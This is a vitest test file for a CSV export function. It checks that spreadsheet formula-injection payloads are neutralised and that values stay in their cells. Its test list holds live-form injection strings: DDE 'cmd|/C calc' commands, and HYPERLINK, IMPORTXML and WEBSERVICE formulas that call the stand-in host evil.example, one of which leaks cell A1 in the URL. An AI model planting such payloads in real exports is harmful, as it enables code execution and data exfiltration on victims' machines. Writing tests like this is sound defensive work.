import { expect, test } from 'vitest';
import { probes } from '../../../../tools/testing/probes.ts';
import { csvOf } from './csv.ts';

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=cmd|"/C calc"!A0',
  '+cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1',
  '","=1+1","',
  '"\r\n"=1+1"',
  '\'",=1+1',
];

/** Parses a line like a spreadsheet: comma-separated cells with optional quotes. */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  for (const [, quoted, bare = ''] of line.matchAll(/(?:"((?:[^"]|"")*)"|([^,"]*))(?:,|$)/g))
    cells.push(quoted?.replaceAll('""', '"') ?? bare);
  return cells.slice(0, -1);
}

test('neutralises formulas and does not split cells', () => {
  const leaked = formulas.filter((text) => {
    const cells = cellsOf(csvOf(['first', text, 'last']));
    return cells.length !== 3 || cells[2] !== 'last' || /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cells[1] ?? '');
  });
  expect(leaked).toEqual([]);
  expect(formulas.length).toBeGreaterThanOrEqual(probes.formulas.min);
});

test('keeps other values unchanged', () => {
  for (const text of ['Zoë & Co', 'a=b', '2026-11-17T05:00:00Z', '{"a":"b"}', ''])
    expect(cellsOf(csvOf([text, 'x']))).toEqual([text, 'x']);
});
